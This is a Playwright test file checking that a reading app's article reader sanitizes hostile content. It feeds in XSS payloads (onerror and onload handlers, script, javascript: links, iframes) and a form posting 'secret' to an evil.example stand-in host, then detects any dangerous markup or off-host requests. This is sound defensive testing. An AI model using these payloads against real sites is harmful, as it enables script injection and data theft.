// Hostile Markdown and metadata: articles created through the real API render inert in the reader (no script
// runs, no dangerous element or attribute survives, nothing is fetched from outside the host) and keep their text.
import type { Page } from '@playwright/test';
import { ArticleReader, LibraryList } from './pages/reading-pages';
import { callApiOk } from './support/api';
import { expect, test } from './support/fixtures';
import { teacherToken } from './support/teacher';

interface HostileCase {
  name: string;
  /** Markdown placed between two ordinary paragraphs (or inside one, for inline HTML). */
  payload: string;
  inline?: boolean;
  /** The payload ends the article: an unclosed raw-text element swallows whatever follows it. */
  last?: boolean;
}

const HOSTILE_CASES: HostileCase[] = [
  { name: 'img onerror', payload: '<img src=x onerror="window.__xss=1;alert(1)">', inline: true },
  { name: 'script element', payload: '<script>window.__xss=2;alert(2)</script>' },
  { name: 'javascript: Markdown link', payload: '[click](javascript:window.__xss=3)', inline: true },
  { name: 'javascript: HTML link', payload: '<a href="javascript:alert(4)">x</a>', inline: true },
  { name: 'svg onload', payload: '<svg onload=alert(5)></svg>' },
  { name: 'iframe', payload: '<iframe src="javascript:alert(6)"></iframe>' },
  { name: 'style url', payload: '<div style="background:url(javascript:alert(7))">Styled box text.</div>' },
  {
    name: 'object',
    payload: '<object data="javascript:alert(9)" type="text/html"><embed src="javascript:alert(10)"></object>',
  },
  {
    name: 'form action',
    payload:
      '<form action="https://evil.example/steal" method="post"><input name="q" value="secret"><button formaction="javascript:alert(11)">Send</button></form>',
  },
  // A relative image after the base element: if <base> survived, it would be fetched from //evil.
  { name: 'base href', payload: '<base href="//evil.example/">\n\n![pixel](pixel.png)' },
  { name: 'meta refresh', payload: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  // The same payloads as teachers might paste them, unclosed.
  { name: 'svg onload, unclosed', payload: '<svg onload=alert(5)>' },
  { name: 'iframe, unclosed', payload: '<iframe src="javascript:alert(6)">', last: true },
];

const HOSTILE_TITLE = 'Breaking <img src=x onerror=alert(8)> news';

/** Ordinary text around a payload: unique per case (the library refuses duplicate texts). */
function openingText(index: number): string {
  return `Opening paragraph ${index + 1}: the town council met on Tuesday to discuss the bus routes.`;
}
function closingText(index: number): string {
  return `Closing paragraph ${index + 1}: the vote was postponed until next month.`;
}
function bodyOf(hostile: HostileCase, index: number): string {
  if (hostile.last) return `${openingText(index)}\n\n${hostile.payload}`;
  return hostile.inline
    ? `${openingText(index)} ${hostile.payload} ${closingText(index)}`
    : `${openingText(index)}\n\n${hostile.payload}\n\n${closingText(index)}`;
}

/** Everything in the rendered body that could run script, navigate, or load something. */
async function dangerIn(page: Page): Promise<string[]> {
  return new ArticleReader(page).body().evaluate((body) => {
    const found: string[] = [];
    const forbidden = [
      'script',
      'iframe',
      'frame',
      'object',
      'embed',
      'svg',
      'math',
      'form',
      'base',
      'meta',
      'link',
      'style',
    ];
    for (const element of body.querySelectorAll('*')) {
      const tag = element.tagName.toLowerCase();
      if (forbidden.includes(tag)) found.push(`<${tag}> element`);
      for (const attribute of element.attributes) {
        const name = attribute.name.toLowerCase();
        // Browsers ignore whitespace and control characters inside a URL scheme.
        const value = [...attribute.value]
          .filter((character) => character.charCodeAt(0) > 0x20)
          .join('')
          .toLowerCase();
        if (name.startsWith('on')) found.push(`${name} attribute on <${tag}>`);
        if (name === 'style') found.push(`style attribute on <${tag}>`);
        if (value.includes('javascript:') || value.startsWith('vbscript:') || value.startsWith('data:text/html')) {
          found.push(`${name}="${attribute.value}" on <${tag}>`);
        }
      }
    }
    // Outside the body too: nothing of the article may reach the document as a whole.
    if (document.querySelector('base')) found.push('<base> in the document');
    if (document.querySelector('iframe, object, embed')) found.push('embedded frame or object in the document');
    if (document.querySelector('meta[http-equiv="refresh" i]')) found.push('<meta http-equiv=refresh> in the document');
    return found;
  });
}

function xssMarker(page: Page): Promise<unknown> {
  return page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
}

/** Every request the page makes, to check that none leaves the host. */
function recordRequests(page: Page): string[] {
  const urls: string[] = [];
  page.on('request', (request) => urls.push(request.url()));
  return urls;
}

/**
 * Chromium reports a CSP violation for every inline handler, style attribute and <base> it merely *parses*,
 * even into the inert document DOMPurify sanitizes in (checked: DOMParser, <template> and
 * createHTMLDocument all report). Those reports say the browser blocked something that the sanitizer then
 * removes; they cannot be told apart from the console alone, so this spec checks the live DOM instead
 * (no on* or style attribute, no <base>) and accepts exactly these three kinds of report. Every other
 * page problem (page errors, dialogs, any other CSP report) still fails the test through the fixture.
 */
const SANITIZER_PARSE_REPORTS = [
  /^CSP: Executing inline event handler violates the following Content Security Policy directive 'script-src 'self''/,
  /^CSP: Applying inline style violates the following Content Security Policy directive 'style-src 'self''/,
  /^CSP: Setting the document's base URI to '[^']*' violates the following Content Security Policy directive: "base-uri 'none'"/,
];
function acceptSanitizerParseReports(problems: string[]): void {
  const kept = problems.filter((problem) => !SANITIZER_PARSE_REPORTS.some((pattern) => pattern.test(problem)));
  problems.splice(0, problems.length, ...kept);
}

function outsideHost(urls: string[], hostUrl: string): string[] {
  const origin = new URL(hostUrl).origin;
  return urls.filter((url) => !url.startsWith('data:') && new URL(url).origin !== origin);
}

/**
 * Markup that is not hostile but malformed, as pasted or imported articles carry it: where an HTML5 parser
 * (the reader's) and a lenient one could build different trees around dropped elements or move text.
 */
const MALFORMED_CASES: Array<{ name: string; markdown: string }> = [
  { name: 'unclosed math', markdown: 'Before the formula.\n\n<math>\n\nAfter the formula.' },
  {
    name: 'text directly inside a table',
    markdown: 'Before the table.\n\n<table><tr><td>cell</td></tr>stray text</table>\n\nAfter the table.',
  },
  { name: 'NUL character', markdown: 'A NUL \u0000 character in the text.\n\nAfter the NUL.' },
  { name: 'unclosed select', markdown: 'Before <select><option>choice</option> after the select.\n\nNext paragraph.' },
  { name: 'block inside noscript', markdown: 'Before <noscript><p>fallback</p></noscript> after.\n\nNext paragraph.' },
];

test.describe('hostile article bodies', () => {
  // The sanitizer's parse-time CSP reports are accepted here, even when a test fails midway (afterEach runs
  // before the fixture's own check).
  test.afterEach(({ pageProblems }) => acceptSanitizerParseReports(pageProblems));

  test('hostile HTML in article Markdown is rendered inert and the surrounding text is kept', async ({
    page,
    host,
  }) => {
    test.slow(); // opens thirteen articles one after the other
    const requests = recordRequests(page);
    const created: Array<{ title: string; hostile: HostileCase; index: number }> = [];
    const token = await teacherToken(host.url);
    for (const [index, hostile] of HOSTILE_CASES.entries()) {
      const title = `Safety check ${index + 1}: ${hostile.name}`;
      await callApiOk(host.url, 'articles.create', {
        teacherToken: token,
        title,
        bodyMarkdown: bodyOf(hostile, index),
      });
      created.push({ title, hostile, index });
    }

    await page.goto(host.url);
    const library = new LibraryList(page);
    const reader = new ArticleReader(page);
    for (const { title, hostile, index } of created) {
      await library.show();
      await library.open(title);
      await reader.waitFor(title);
      const body = reader.body();
      await expect(body, hostile.name).toContainText(openingText(index));
      if (!hostile.last) await expect(body, hostile.name).toContainText(closingText(index));

      expect(await xssMarker(page), `${hostile.name}: window.__xss`).toBeUndefined();
      expect(await dangerIn(page), `${hostile.name}: dangerous markup in the reader`).toEqual([]);
    }

    // Nothing ran late (an onerror or a refresh fires after the render) and nothing navigated away.
    await expect.poll(() => xssMarker(page)).toBeUndefined();
    expect(new URL(page.url()).origin).toBe(new URL(host.url).origin);
    expect(outsideHost(requests, host.url), 'requests that left the host').toEqual([]);
  });

  test('the reader shows exactly the stored plain text for hostile and malformed markup (anchoring contract)', async ({
    page,
    host,
  }) => {
    test.slow(); // opens some twenty articles
    const articles: Array<{ id: string; title: string; name: string }> = [];
    const token = await teacherToken(host.url);
    for (const [index, hostile] of HOSTILE_CASES.entries()) {
      const title = `Anchoring check ${index + 1}: ${hostile.name}`;
      const { id } = await callApiOk(host.url, 'articles.create', {
        teacherToken: token,
        title,
        bodyMarkdown: bodyOf(hostile, index),
      });
      articles.push({ id, title, name: hostile.name });
    }
    for (const [index, malformed] of MALFORMED_CASES.entries()) {
      const title = `Anchoring check ${HOSTILE_CASES.length + index + 1}: ${malformed.name}`;
      const { id } = await callApiOk(host.url, 'articles.create', {
        teacherToken: token,
        title,
        bodyMarkdown: malformed.markdown,
      });
      articles.push({ id, title, name: malformed.name });
    }

    await page.goto(host.url);
    const library = new LibraryList(page);
    const reader = new ArticleReader(page);
    for (const { id, title, name } of articles) {
      await library.show();
      await library.open(title);
      await reader.waitFor(title);
      // Offsets of highlights are offsets in bodyText: the reader must show exactly that text.
      const { bodyText } = await callApiOk(host.url, 'articles.get', { articleId: id });
      expect.soft(await reader.bodyText(), `${name}: rendered text = bodyText`).toBe(bodyText);
    }
  });
});

test('a hostile title is shown as literal text in the library and the reader', async ({ page, host }) => {
  const requests = recordRequests(page);
  await callApiOk(host.url, 'articles.create', {
    teacherToken: await teacherToken(host.url),
    title: HOSTILE_TITLE,
    author: '<script>alert(12)</script>',
    outlet: '<b onmouseover=alert(13)>Outlet</b>',
    bodyMarkdown: 'A plain body under a hostile title, for the title check.',
  });

  await page.goto(host.url);
  const library = new LibraryList(page);
  await library.show();
  const entry = library.entry(HOSTILE_TITLE);
  await expect(entry).toHaveCount(1);
  await expect(entry).toContainText('<script>alert(12)</script>');
  await expect(entry.locator('img, script, b')).toHaveCount(0);

  await library.open(HOSTILE_TITLE);
  const reader = new ArticleReader(page);
  await reader.waitFor(HOSTILE_TITLE);
  await expect(reader.title().locator('*')).toHaveCount(0);
  await expect(reader.article().locator('header img, header script, header b')).toHaveCount(0);
  await expect(reader.article()).toContainText('<b onmouseover=alert(13)>Outlet</b>');
  await expect(reader.body()).toHaveText('A plain body under a hostile title, for the title check.');

  await expect.poll(() => xssMarker(page)).toBeUndefined();
  expect(outsideHost(requests, host.url), 'requests that left the host').toEqual([]);
});
